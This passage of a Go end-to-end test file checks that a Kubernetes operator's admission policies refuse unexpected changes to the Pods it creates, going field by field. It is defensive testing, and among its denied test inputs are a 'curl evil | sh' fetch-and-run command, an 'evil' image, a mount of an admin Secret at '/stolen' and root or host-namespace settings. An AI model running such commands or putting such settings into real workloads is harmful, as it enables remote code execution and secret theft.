package e2e_test

import (
	"context"
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	nodev1 "k8s.io/api/node/v1"
	schedulingv1 "k8s.io/api/scheduling/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/utils/ptr"

	chaosv1 "github.com/hexagonal-operator/operator/api/chaos/v1"
	"github.com/hexagonal-operator/operator/internal/domain/chaospod"
	"github.com/hexagonal-operator/operator/test/controlplane"
)

// The field walk: every JSON field of the Go types a Pod is made of, at
// each level where chaospod-templates compares key by key or with
// defaults, has a decision below: refused by a Pod policy, refused by the
// API server itself, dropped or overwritten by it, or a listed difference
// with the value it may take. A field a later Kubernetes adds fails
// TestEveryPodFieldIsDecided until someone decides it, and
// TestOperatorPodsDifferFromTheirTemplatesOnlyAsListed makes every
// decision against the real API server, as the operator's ServiceAccount.

// anyPodPolicy stands for either Pod policy: a change both refuse is
// answered by whichever the API server evaluates first.
const anyPodPolicy = "hexagonal-operator-chaospod-"

// podOutcome is what a create as the operator comes to.
type podOutcome struct {
	// policy is the ValidatingAdmissionPolicy that denies (anyPodPolicy
	// for either Pod policy); "" with a message is a refusal by the API
	// server itself (its validation or a built-in admission plugin), and
	// "" without one an admission.
	policy, message string
	// kept, for an admission, tells whether the API server kept what was
	// sent; an admission of a value the server drops or overwrites has it
	// false (nil: the value is admitted as sent).
	kept func(created *corev1.Pod) bool
}

// podStep is one create: a Pod made from its template by the operator
// (PodFor), then changed.
type podStep struct {
	change func(p *corev1.Pod)
	podOutcome
	// stored makes the create real instead of a dry run.
	stored bool
}

// podDecision is what a field may hold on the operator's Pod.
type podDecision struct {
	// template adapts fieldsTemplate for the steps; nil keeps it.
	template func(t *corev1.PodTemplateSpec)
	steps    []podStep
}

// denied: any value other than the template's is refused by the policy.
func denied(policy, message string, change func(p *corev1.Pod)) podDecision {
	return podDecision{steps: []podStep{{change: change, podOutcome: podOutcome{policy: policy, message: message}}}}
}

// rejected: the API server refuses the value itself, before the policies.
func rejected(message string, change func(p *corev1.Pod)) podDecision {
	return podDecision{steps: []podStep{{change: change, podOutcome: podOutcome{message: message}}}}
}

// rejectedOnStore: admission lets it through, and the API server refuses
// it as it stores the Pod.
func rejectedOnStore(message string, change func(p *corev1.Pod)) podDecision {
	return podDecision{steps: []podStep{{change: change, podOutcome: podOutcome{message: message}, stored: true}}}
}

// dropped: the API server drops or overwrites what is sent.
func dropped(change func(p *corev1.Pod), kept func(created *corev1.Pod) bool) podDecision {
	return podDecision{steps: []podStep{{change: change, podOutcome: podOutcome{kept: kept}}}}
}

// allowed: a listed difference; allowed holds the value it may take,
// which is admitted, and other a value that is not, refused as expected.
func allowed(value func(p *corev1.Pod), other func(p *corev1.Pod), refusal podOutcome) podDecision {
	return podDecision{steps: []podStep{{change: value}, {change: other, podOutcome: refusal}}}
}

func (d podDecision) from(template func(t *corev1.PodTemplateSpec)) podDecision {
	d.template = template
	return d
}

// refusedBy is a denial by a policy, for allowed.
func refusedBy(policy, message string) podOutcome {
	return podOutcome{policy: policy, message: message}
}

// fieldsTemplate is victimTemplate with a value in each struct the walk
// changes: resources by limits alone, a readiness probe over HTTP, a
// startup probe over gRPC, a preStop sleep, env from a resource field, a
// Secret and a file, a sidecar with a TCP probe, downward API, ephemeral
// and image volumes, and a toleration.
func fieldsTemplate() corev1.PodTemplateSpec {
	t := victimTemplate()
	main := &t.Spec.Containers[0]
	main.Resources = corev1.ResourceRequirements{Limits: corev1.ResourceList{
		corev1.ResourceCPU: resource.MustParse("100m"), corev1.ResourceMemory: resource.MustParse("64Mi")}}
	main.ReadinessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{HTTPGet: &corev1.HTTPGetAction{Path: "/ready", Port: intstr.FromString("http")}}}
	main.StartupProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{GRPC: &corev1.GRPCAction{Port: 9090}}}
	main.Lifecycle.PreStop = &corev1.LifecycleHandler{Sleep: &corev1.SleepAction{Seconds: 1}}
	main.Env = append(main.Env,
		corev1.EnvVar{Name: "MEM", ValueFrom: &corev1.EnvVarSource{ResourceFieldRef: &corev1.ResourceFieldSelector{Resource: "limits.memory"}}},
		corev1.EnvVar{Name: "S", ValueFrom: &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "s"}, Key: "k"}}},
		corev1.EnvVar{Name: "F", ValueFrom: &corev1.EnvVarSource{FileKeyRef: &corev1.FileKeySelector{VolumeName: "envfiles", Path: "env", Key: "F"}}})
	t.Spec.Containers = append(t.Spec.Containers, corev1.Container{
		Name: "side", Image: "registry.k8s.io/pause:3.10",
		LivenessProbe: &corev1.Probe{ProbeHandler: corev1.ProbeHandler{TCPSocket: &corev1.TCPSocketAction{Port: intstr.FromInt32(8081)}}},
	})
	t.Spec.Volumes = append(t.Spec.Volumes,
		corev1.Volume{Name: "envfiles", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}},
		corev1.Volume{Name: "info", VolumeSource: corev1.VolumeSource{DownwardAPI: &corev1.DownwardAPIVolumeSource{Items: []corev1.DownwardAPIVolumeFile{
			{Path: "labels", FieldRef: &corev1.ObjectFieldSelector{FieldPath: "metadata.labels"}},
			{Path: "cpu", ResourceFieldRef: &corev1.ResourceFieldSelector{ContainerName: "main", Resource: "limits.cpu"}},
		}}}},
		corev1.Volume{Name: "scratch", VolumeSource: corev1.VolumeSource{Ephemeral: &corev1.EphemeralVolumeSource{VolumeClaimTemplate: &corev1.PersistentVolumeClaimTemplate{
			Spec: corev1.PersistentVolumeClaimSpec{
				AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce},
				Resources:   corev1.VolumeResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceStorage: resource.MustParse("1Gi")}},
			},
		}}}},
		corev1.Volume{Name: "tools", VolumeSource: corev1.VolumeSource{Image: &corev1.ImageVolumeSource{Reference: "registry.k8s.io/pause:3.10"}}},
	)
	t.Spec.Tolerations = []corev1.Toleration{{Key: "example.com/dedicated", Operator: corev1.TolerationOpEqual, Value: "chaos", Effect: corev1.TaintEffectNoSchedule}}
	return t
}

func mainOf(p *corev1.Pod) *corev1.Container { return &p.Spec.Containers[0] }
func initOf(p *corev1.Pod) *corev1.Container { return &p.Spec.InitContainers[0] }
func sideOf(p *corev1.Pod) *corev1.Container { return &p.Spec.Containers[1] }

func volumeOf(p *corev1.Pod, name string) *corev1.Volume {
	for i := range p.Spec.Volumes {
		if p.Spec.Volumes[i].Name == name {
			return &p.Spec.Volumes[i]
		}
	}
	panic("no volume " + name)
}

func envOf(p *corev1.Pod, name string) *corev1.EnvVar {
	for i := range mainOf(p).Env {
		if mainOf(p).Env[i].Name == name {
			return &mainOf(p).Env[i]
		}
	}
	panic("no env " + name)
}

// whose is the start of chaospod-templates' message naming a field.
func whose(field string) string { return "the operator may only create a Pod whose " + field }

const (
	cannotOnCreate = "cannot be set on create"
	noParamsFound  = "no params found for policy binding with `Deny` parameterNotFoundAction"
	ownedByOne     = "owned by exactly one object"
	priorityPlugin = "must not be provided in pod spec; priority admission controller computed"
)

// metadataDecisions: metav1.ObjectMeta.
func metadataDecisions() map[string]podDecision {
	epoch := metav1.NewTime(time.Date(2000, 1, 1, 0, 0, 0, 0, time.UTC))
	return map[string]podDecision{
		"name":      denied(chaosPodPolicy, ownedByOne, func(p *corev1.Pod) { p.Name = "renamed" }),
		"namespace": denied(templatePolicy, noParamsFound, func(p *corev1.Pod) { p.Namespace = "elsewhere" }),
		"generateName": denied(templatePolicy, whose("metadata.generateName"), func(p *corev1.Pod) {
			p.GenerateName = p.Name + "-"
		}),
		// Deprecated, and still a field of the type the walk decides.
		"selfLink": dropped(func(p *corev1.Pod) { p.SelfLink = "/api/v1/namespaces/x/pods/y" }, //nolint:staticcheck // decided like every field
			func(c *corev1.Pod) bool { return c.SelfLink != "" }), //nolint:staticcheck // decided like every field
		"uid": dropped(func(p *corev1.Pod) { p.UID = "0123" }, func(c *corev1.Pod) bool { return c.UID == "0123" }),
		// Let through admission, refused as the Pod is stored (a dry run
		// never gets there).
		"resourceVersion": rejectedOnStore("resourceVersion should not be set on objects to be created",
			func(p *corev1.Pod) { p.ResourceVersion = "1" }),
		"generation":        dropped(func(p *corev1.Pod) { p.Generation = 7 }, func(c *corev1.Pod) bool { return c.Generation == 7 }),
		"creationTimestamp": dropped(func(p *corev1.Pod) { p.CreationTimestamp = epoch }, func(c *corev1.Pod) bool { return c.CreationTimestamp.Equal(&epoch) }),
		"deletionTimestamp": dropped(func(p *corev1.Pod) { p.DeletionTimestamp = &epoch }, func(c *corev1.Pod) bool { return c.DeletionTimestamp != nil }),
		"deletionGracePeriodSeconds": dropped(func(p *corev1.Pod) { p.DeletionGracePeriodSeconds = ptr.To[int64](5) },
			func(c *corev1.Pod) bool { return c.DeletionGracePeriodSeconds != nil }),
		// The operator's label with the ChaosPod's name, which the base
		// Pod carries; a label the template lacks joins another selector.
		"labels": allowed(func(*corev1.Pod) {}, func(p *corev1.Pod) { p.Labels["app.kubernetes.io/name"] = "billing" },
			refusedBy(templatePolicy, whose("metadata.labels"))),
		// The annotation the operator's Pod webhook adds, with its value.
		"annotations": allowed(func(p *corev1.Pod) { p.Annotations = map[string]string{"example-mutating-admission-webhook": "foo"} },
			func(p *corev1.Pod) {
				p.Annotations = map[string]string{"example-mutating-admission-webhook": "foo", "prometheus.io/scrape": "true"}
			},
			refusedBy(templatePolicy, whose("metadata.annotations"))),
		// PodFor's controller reference, exactly.
		"ownerReferences": allowed(func(*corev1.Pod) {}, func(p *corev1.Pod) { p.OwnerReferences[0].BlockOwnerDeletion = ptr.To(false) },
			refusedBy(templatePolicy, whose("metadata.ownerReferences"))),
		"finalizers": denied(templatePolicy, whose("metadata.finalizers"), func(p *corev1.Pod) {
			p.Finalizers = []string{"example.com/hold"}
		}),
		"managedFields": dropped(func(p *corev1.Pod) {
			p.ManagedFields = []metav1.ManagedFieldsEntry{{Manager: "someone", Operation: metav1.ManagedFieldsOperationUpdate, APIVersion: "v1",
				FieldsType: "FieldsV1", FieldsV1: metav1.NewFieldsV1(`{"f:metadata":{"f:labels":{}}}`)}}
		}, func(c *corev1.Pod) bool {
			return slices.ContainsFunc(c.ManagedFields, func(m metav1.ManagedFieldsEntry) bool { return m.Manager == "someone" })
		}),
	}
}

// ownerDecisions: metav1.OwnerReference, of the controller reference.
func ownerDecisions() map[string]podDecision {
	owner := func(p *corev1.Pod) *metav1.OwnerReference { return &p.OwnerReferences[0] }
	return map[string]podDecision{
		// Both Pod policies refuse these.
		"apiVersion":         denied(anyPodPolicy, "", func(p *corev1.Pod) { owner(p).APIVersion = "chaosapps.metamagical.io/v2" }),
		"kind":               denied(anyPodPolicy, "", func(p *corev1.Pod) { owner(p).Kind = "ReplicaSet" }),
		"name":               denied(anyPodPolicy, "", func(p *corev1.Pod) { owner(p).Name = "other" }),
		"uid":                denied(templatePolicy, "a ChaosPod that exists with the UID", func(p *corev1.Pod) { owner(p).UID = "0123" }),
		"controller":         denied(anyPodPolicy, "", func(p *corev1.Pod) { owner(p).Controller = ptr.To(false) }),
		"blockOwnerDeletion": denied(templatePolicy, whose("metadata.ownerReferences"), func(p *corev1.Pod) { owner(p).BlockOwnerDeletion = nil }),
	}
}

// noSecurityContext, noServiceAccount: the template leaves them to the API
// server's defaults.
func noSecurityContext(t *corev1.PodTemplateSpec) { t.Spec.SecurityContext = nil }
func noServiceAccount(t *corev1.PodTemplateSpec)  { t.Spec.ServiceAccountName = "" }

// specDecisions: corev1.PodSpec.
func specDecisions() map[string]podDecision {
	spec := func(field string) string { return whose("spec." + field) }
	deny := func(field string, change func(p *corev1.Pod)) podDecision {
		return denied(templatePolicy, spec(field), change)
	}
	return map[string]podDecision{
		"volumes": deny("volumes", func(p *corev1.Pod) {
			p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{Name: "extra", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}})
		}),
		"initContainers": deny("initContainers", func(p *corev1.Pod) {
			p.Spec.InitContainers = append(p.Spec.InitContainers, corev1.Container{Name: "more", Image: "busybox:1.36"})
		}),
		"containers": deny("containers", func(p *corev1.Pod) {
			p.Spec.Containers = append(p.Spec.Containers, corev1.Container{Name: "more", Image: "busybox:1.36"})
		}),
		"ephemeralContainers": rejected(cannotOnCreate, func(p *corev1.Pod) {
			p.Spec.EphemeralContainers = []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "debug", Image: "busybox:1.36"}}}
		}),
		"restartPolicy": allowed(func(p *corev1.Pod) { p.Spec.RestartPolicy = corev1.RestartPolicyAlways },
			func(p *corev1.Pod) { p.Spec.RestartPolicy = corev1.RestartPolicyNever }, refusedBy(templatePolicy, spec("restartPolicy"))),
		"terminationGracePeriodSeconds": allowed(func(p *corev1.Pod) { p.Spec.TerminationGracePeriodSeconds = ptr.To[int64](30) },
			func(p *corev1.Pod) { p.Spec.TerminationGracePeriodSeconds = ptr.To[int64](86400) }, refusedBy(templatePolicy, spec("terminationGracePeriodSeconds"))),
		"activeDeadlineSeconds": deny("activeDeadlineSeconds", func(p *corev1.Pod) { p.Spec.ActiveDeadlineSeconds = ptr.To[int64](60) }),
		"dnsPolicy": allowed(func(p *corev1.Pod) { p.Spec.DNSPolicy = corev1.DNSClusterFirst },
			func(p *corev1.Pod) { p.Spec.DNSPolicy = corev1.DNSDefault }, refusedBy(templatePolicy, spec("dnsPolicy"))),
		"nodeSelector": deny("nodeSelector", func(p *corev1.Pod) { p.Spec.NodeSelector = map[string]string{"kubernetes.io/hostname": "node-1"} }),
		"serviceAccountName": allowed(func(p *corev1.Pod) { p.Spec.ServiceAccountName = "default" },
			func(p *corev1.Pod) { p.Spec.ServiceAccountName = "runner" }, refusedBy(templatePolicy, spec("serviceAccountName"))).from(noServiceAccount),
		// The deprecated mirror of serviceAccountName: the API server copies
		// the name into it, and reads it when the name is empty.
		"serviceAccount": allowed(func(p *corev1.Pod) { p.Spec.DeprecatedServiceAccount = "runner" },
			func(p *corev1.Pod) { p.Spec.ServiceAccountName, p.Spec.DeprecatedServiceAccount = "", "powerful" },
			refusedBy(templatePolicy, spec("serviceAccountName"))),
		"automountServiceAccountToken": deny("automountServiceAccountToken", func(p *corev1.Pod) { p.Spec.AutomountServiceAccountToken = ptr.To(false) }),
		"nodeName":                     deny("nodeName", func(p *corev1.Pod) { p.Spec.NodeName = "node-1" }),
		"hostNetwork":                  denied(anyPodPolicy, "", func(p *corev1.Pod) { p.Spec.HostNetwork = true }),
		"hostPID":                      denied(anyPodPolicy, "", func(p *corev1.Pod) { p.Spec.HostPID = true }),
		"hostIPC": denied(anyPodPolicy, "", func(p *corev1.Pod) {
			p.Spec.HostIPC, p.Spec.SecurityContext.Sysctls = true, nil
		}),
		"shareProcessNamespace": deny("shareProcessNamespace", func(p *corev1.Pod) { p.Spec.ShareProcessNamespace = ptr.To(true) }),
		"securityContext": allowed(func(p *corev1.Pod) { p.Spec.SecurityContext = &corev1.PodSecurityContext{} },
			func(p *corev1.Pod) { p.Spec.SecurityContext = &corev1.PodSecurityContext{RunAsUser: ptr.To[int64](0)} },
			refusedBy(templatePolicy, spec("securityContext"))).from(noSecurityContext),
		"imagePullSecrets": deny("imagePullSecrets", func(p *corev1.Pod) {
			p.Spec.ImagePullSecrets = []corev1.LocalObjectReference{{Name: "regcred"}}
		}),
		"hostname":  deny("hostname", func(p *corev1.Pod) { p.Spec.Hostname = "other" }),
		"subdomain": deny("subdomain", func(p *corev1.Pod) { p.Spec.Subdomain = "other" }),
		"affinity": deny("affinity", func(p *corev1.Pod) {
			p.Spec.Affinity = &corev1.Affinity{NodeAffinity: &corev1.NodeAffinity{RequiredDuringSchedulingIgnoredDuringExecution: &corev1.NodeSelector{
				NodeSelectorTerms: []corev1.NodeSelectorTerm{{MatchExpressions: []corev1.NodeSelectorRequirement{{Key: "zone", Operator: corev1.NodeSelectorOpIn, Values: []string{"a"}}}}},
			}}}
		}),
		"schedulerName": allowed(func(p *corev1.Pod) { p.Spec.SchedulerName = corev1.DefaultSchedulerName },
			func(p *corev1.Pod) { p.Spec.SchedulerName = "my-scheduler" }, refusedBy(templatePolicy, spec("schedulerName"))),
		// The two DefaultTolerationSeconds adds, exactly; a toleration of
		// every taint is not.
		"tolerations": allowed(func(p *corev1.Pod) { p.Spec.Tolerations = append(p.Spec.Tolerations, defaultTolerations()...) },
			func(p *corev1.Pod) {
				p.Spec.Tolerations = append(p.Spec.Tolerations, corev1.Toleration{Operator: corev1.TolerationOpExists})
			},
			refusedBy(templatePolicy, spec("tolerations"))),
		"hostAliases": deny("hostAliases", func(p *corev1.Pod) {
			p.Spec.HostAliases = []corev1.HostAlias{{IP: "10.0.0.1", Hostnames: []string{"kubernetes.default.svc"}}}
		}),
		"priorityClassName": deny("priorityClassName", func(p *corev1.Pod) { p.Spec.PriorityClassName = "system-cluster-critical" }),
		// The Priority plugin's value for the template's class (none here:
		// 0); it refuses another itself.
		"priority": allowed(func(p *corev1.Pod) { p.Spec.Priority = ptr.To[int32](0) },
			func(p *corev1.Pod) { p.Spec.Priority = ptr.To[int32](1000) }, podOutcome{message: priorityPlugin}),
		"dnsConfig": deny("dnsConfig", func(p *corev1.Pod) { p.Spec.DNSConfig = &corev1.PodDNSConfig{Nameservers: []string{"10.0.0.53"}} }),
		"readinessGates": deny("readinessGates", func(p *corev1.Pod) {
			p.Spec.ReadinessGates = []corev1.PodReadinessGate{{ConditionType: "example.com/ready"}}
		}),
		"runtimeClassName": deny("runtimeClassName", func(p *corev1.Pod) { p.Spec.RuntimeClassName = ptr.To("sandbox") }),
		"enableServiceLinks": allowed(func(p *corev1.Pod) { p.Spec.EnableServiceLinks = ptr.To(true) },
			func(p *corev1.Pod) { p.Spec.EnableServiceLinks = ptr.To(false) }, refusedBy(templatePolicy, spec("enableServiceLinks"))),
		"preemptionPolicy": allowed(func(p *corev1.Pod) { p.Spec.PreemptionPolicy = ptr.To(corev1.PreemptLowerPriority) },
			func(p *corev1.Pod) { p.Spec.PreemptionPolicy = ptr.To(corev1.PreemptNever) }, podOutcome{message: "must not be provided in pod spec"}),
		// The RuntimeClass plugin refuses an overhead its class does not
		// define.
		"overhead": rejected("Pod Overhead set without corresponding RuntimeClass defined Overhead", func(p *corev1.Pod) {
			p.Spec.Overhead = corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("100m")}
		}),
		"topologySpreadConstraints": deny("topologySpreadConstraints", func(p *corev1.Pod) {
			p.Spec.TopologySpreadConstraints = []corev1.TopologySpreadConstraint{{MaxSkew: 1, TopologyKey: "zone",
				WhenUnsatisfiable: corev1.DoNotSchedule, LabelSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "victim"}}}}
		}),
		"setHostnameAsFQDN": deny("setHostnameAsFQDN", func(p *corev1.Pod) { p.Spec.SetHostnameAsFQDN = ptr.To(true) }),
		"os":                deny("os", func(p *corev1.Pod) { p.Spec.OS = &corev1.PodOS{Name: corev1.Linux} }),
		"hostUsers":         deny("hostUsers", func(p *corev1.Pod) { p.Spec.HostUsers = ptr.To(false) }),
		"schedulingGates": deny("schedulingGates", func(p *corev1.Pod) {
			p.Spec.SchedulingGates = []corev1.PodSchedulingGate{{Name: "example.com/gate"}}
		}),
		"resourceClaims": deny("resourceClaims", func(p *corev1.Pod) {
			p.Spec.ResourceClaims = []corev1.PodResourceClaim{{Name: "gpu", ResourceClaimName: ptr.To("gpu")}}
		}),
		"resources": deny("resources", func(p *corev1.Pod) {
			p.Spec.Resources = &corev1.ResourceRequirements{Limits: corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("1")}}
		}),
		"hostnameOverride": deny("hostnameOverride", func(p *corev1.Pod) { p.Spec.HostnameOverride = ptr.To("other") }),
		"schedulingGroup": dropped(func(p *corev1.Pod) {
			p.Spec.SchedulingGroup = &corev1.PodSchedulingGroup{PodGroupName: ptr.To("group")}
		},
			func(c *corev1.Pod) bool { return c.Spec.SchedulingGroup != nil }),
		"evictionResponders": dropped(func(p *corev1.Pod) {
			p.Spec.EvictionResponders = []corev1.EvictionResponder{{Name: "example.com/responder"}}
		}, func(c *corev1.Pod) bool { return len(c.Spec.EvictionResponders) > 0 }),
	}
}

// defaultTolerations are the two the DefaultTolerationSeconds plugin adds.
func defaultTolerations() []corev1.Toleration {
	return []corev1.Toleration{
		{Key: "node.kubernetes.io/not-ready", Operator: corev1.TolerationOpExists, Effect: corev1.TaintEffectNoExecute, TolerationSeconds: ptr.To[int64](300)},
		{Key: "node.kubernetes.io/unreachable", Operator: corev1.TolerationOpExists, Effect: corev1.TaintEffectNoExecute, TolerationSeconds: ptr.To[int64](300)},
	}
}

// tolerationDecisions: corev1.Toleration, of the template's toleration.
func tolerationDecisions() map[string]podDecision {
	tol := func(p *corev1.Pod) *corev1.Toleration { return &p.Spec.Tolerations[0] }
	deny := func(change func(p *corev1.Pod)) podDecision {
		return denied(templatePolicy, whose("spec.tolerations"), change)
	}
	return map[string]podDecision{
		"key":      deny(func(p *corev1.Pod) { tol(p).Key = "example.com/other" }),
		"operator": deny(func(p *corev1.Pod) { tol(p).Operator, tol(p).Value = corev1.TolerationOpExists, "" }),
		"value":    deny(func(p *corev1.Pod) { tol(p).Value = "other" }),
		"effect":   deny(func(p *corev1.Pod) { tol(p).Effect = corev1.TaintEffectNoExecute }),
		// Each of the plugin's two exactly as it adds it, and no longer.
		"tolerationSeconds": allowed(func(p *corev1.Pod) { p.Spec.Tolerations = append(p.Spec.Tolerations, defaultTolerations()...) },
			func(p *corev1.Pod) {
				d := defaultTolerations()[1]
				d.TolerationSeconds = ptr.To[int64](86400)
				p.Spec.Tolerations = append(p.Spec.Tolerations, d)
			}, refusedBy(templatePolicy, whose("spec.tolerations"))),
	}
}

// containerDecisions: corev1.Container, for the container of kind named
// name that at picks on a Pod.
func containerDecisions(kind, name string, at func(p *corev1.Pod) *corev1.Container) map[string]podDecision {
	field := func(f string) string { return whose(fmt.Sprintf("spec.%s[%s].%s", kind, name, f)) }
	deny := func(f string, change func(c *corev1.Container)) podDecision {
		return denied(templatePolicy, field(f), func(p *corev1.Pod) { change(at(p)) })
	}
	allow := func(f string, value, other func(c *corev1.Container)) podDecision {
		return allowed(func(p *corev1.Pod) { value(at(p)) }, func(p *corev1.Pod) { other(at(p)) }, refusedBy(templatePolicy, field(f)))
	}
	d := map[string]podDecision{
		"name":       denied(templatePolicy, whose("spec."+kind+"[*].name is"), func(p *corev1.Pod) { at(p).Name = "renamed" }),
		"image":      deny("image", func(c *corev1.Container) { c.Image = "registry.example/evil:1" }),
		"command":    deny("command", func(c *corev1.Container) { c.Command = []string{"sh", "-c", "curl evil | sh"} }),
		"args":       deny("args", func(c *corev1.Container) { c.Args = []string{"--evil"} }),
		"workingDir": deny("workingDir", func(c *corev1.Container) { c.WorkingDir = "/tmp" }),
		"ports": deny("ports", func(c *corev1.Container) {
			c.Ports = append(c.Ports, corev1.ContainerPort{Name: "debug", ContainerPort: 6060})
		}),
		"envFrom": deny("envFrom", func(c *corev1.Container) {
			c.EnvFrom = append(c.EnvFrom, corev1.EnvFromSource{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "admin"}}})
		}),
		"env": deny("env", func(c *corev1.Container) { c.Env = append(c.Env, corev1.EnvVar{Name: "EVIL", Value: "1"}) }),
		"resources": deny("resources", func(c *corev1.Container) {
			c.Resources.Limits = corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("8")}
		}),
		"resizePolicy": deny("resizePolicy", func(c *corev1.Container) {
			c.ResizePolicy = []corev1.ContainerResizePolicy{{ResourceName: corev1.ResourceCPU, RestartPolicy: corev1.NotRequired}}
		}),
		"restartPolicyRules": deny("restartPolicyRules", func(c *corev1.Container) {
			c.RestartPolicy = ptr.To(corev1.ContainerRestartPolicyNever)
			c.RestartPolicyRules = []corev1.ContainerRestartRule{{Action: corev1.ContainerRestartRuleActionRestart,
				ExitCodes: &corev1.ContainerRestartRuleOnExitCodes{Operator: corev1.ContainerRestartRuleOnExitCodesOpIn, Values: []int32{42}}}}
		}),
		"restartPolicy": deny("restartPolicy", func(c *corev1.Container) { c.RestartPolicy = ptr.To(corev1.ContainerRestartPolicyAlways) }),
		"volumeMounts": deny("volumeMounts", func(c *corev1.Container) {
			c.VolumeMounts = append(c.VolumeMounts, corev1.VolumeMount{Name: "secret", MountPath: "/stolen"})
		}),
		"volumeDevices": rejected("volumeDevices", func(p *corev1.Pod) {
			at(p).VolumeDevices = []corev1.VolumeDevice{{Name: "data", DevicePath: "/dev/xvda"}}
		}),
		"livenessProbe": deny("livenessProbe", func(c *corev1.Container) {
			c.LivenessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"sh", "-c", "id"}}}}
		}),
		"readinessProbe": deny("readinessProbe", func(c *corev1.Container) {
			c.ReadinessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"sh", "-c", "id"}}}}
		}),
		"startupProbe": deny("startupProbe", func(c *corev1.Container) {
			c.StartupProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"sh", "-c", "id"}}}}
		}),
		"lifecycle": deny("lifecycle", func(c *corev1.Container) {
			c.Lifecycle = &corev1.Lifecycle{PreStop: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"sh", "-c", "id"}}}}
		}),
		"terminationMessagePath": allow("terminationMessagePath", func(c *corev1.Container) { c.TerminationMessagePath = "/dev/termination-log" },
			func(c *corev1.Container) { c.TerminationMessagePath = "/tmp/message" }),
		"terminationMessagePolicy": allow("terminationMessagePolicy", func(c *corev1.Container) { c.TerminationMessagePolicy = corev1.TerminationMessageReadFile },
			func(c *corev1.Container) { c.TerminationMessagePolicy = corev1.TerminationMessageFallbackToLogsOnError }),
		// IfNotPresent for an image with a tag (Always for :latest or none).
		"imagePullPolicy": allow("imagePullPolicy", func(c *corev1.Container) { c.ImagePullPolicy = corev1.PullIfNotPresent },
			func(c *corev1.Container) { c.ImagePullPolicy = corev1.PullAlways }),
		"securityContext": deny("securityContext", func(c *corev1.Container) {
			c.SecurityContext = &corev1.SecurityContext{RunAsUser: ptr.To[int64](0)}
		}),
		"stdin":     deny("stdin", func(c *corev1.Container) { c.Stdin = true }),
		"stdinOnce": deny("stdinOnce", func(c *corev1.Container) { c.Stdin, c.StdinOnce = true, true }),
		"tty":       deny("tty", func(c *corev1.Container) { c.TTY = true }),
	}
	// Probes and lifecycle hooks are for sidecars among init containers.
	if kind == "initContainers" {
		for _, f := range []string{"livenessProbe", "readinessProbe", "startupProbe", "lifecycle"} {
			d[f] = rejected("may not be set for init containers without restartPolicy=Always", d[f].steps[0].change)
		}
	}
	return d
}

// ephemeralDecisions: corev1.EphemeralContainer, whose fields are a
// Container's and a target; the API server refuses any on create.
func ephemeralDecisions() map[string]podDecision {
	d := map[string]podDecision{}
	add := func(p *corev1.Pod) *corev1.Container {
		p.Spec.EphemeralContainers = append(p.Spec.EphemeralContainers, corev1.EphemeralContainer{
			EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "debug", Image: "busybox:1.36"}})
		return (*corev1.Container)(&p.Spec.EphemeralContainers[len(p.Spec.EphemeralContainers)-1].EphemeralContainerCommon)
	}
	for f, c := range containerDecisions("ephemeralContainers", "debug", add) {
		d[f] = rejected(cannotOnCreate, c.steps[len(c.steps)-1].change)
	}
	d["targetContainerName"] = rejected(cannotOnCreate, func(p *corev1.Pod) { add(p); p.Spec.EphemeralContainers[0].TargetContainerName = "main" })
	return d
}

// probeDecisions: corev1.Probe with its inline ProbeHandler, of main's
// readiness probe (HTTP) and liveness probe (exec).
func probeDecisions() map[string]podDecision {
	ready := func(p *corev1.Pod) *corev1.Probe { return mainOf(p).ReadinessProbe }
	live := func(p *corev1.Pod) *corev1.Probe { return mainOf(p).LivenessProbe }
	deny := func(f string, change func(p *corev1.Pod)) podDecision {
		return denied(templatePolicy, whose("spec.containers[main]."+f), change)
	}
	allow := func(f string, value, other func(p *corev1.Pod)) podDecision {
		return allowed(value, other, refusedBy(templatePolicy, whose("spec.containers[main]."+f)))
	}
	return map[string]podDecision{
		"exec":    deny("livenessProbe", func(p *corev1.Pod) { live(p).Exec.Command = []string{"sh", "-c", "id"} }),
		"httpGet": deny("readinessProbe", func(p *corev1.Pod) { ready(p).HTTPGet.Port = intstr.FromInt32(8080) }),
		"tcpSocket": deny("livenessProbe", func(p *corev1.Pod) {
			live(p).ProbeHandler = corev1.ProbeHandler{TCPSocket: &corev1.TCPSocketAction{Port: intstr.FromInt32(8080)}}
		}),
		"grpc": deny("livenessProbe", func(p *corev1.Pod) {
			live(p).ProbeHandler = corev1.ProbeHandler{GRPC: &corev1.GRPCAction{Port: 8080}}
		}),
		"initialDelaySeconds": allow("readinessProbe", func(p *corev1.Pod) { ready(p).InitialDelaySeconds = 0 },
			func(p *corev1.Pod) { ready(p).InitialDelaySeconds = 600 }),
		"timeoutSeconds": allow("readinessProbe", func(p *corev1.Pod) { ready(p).TimeoutSeconds = 1 },
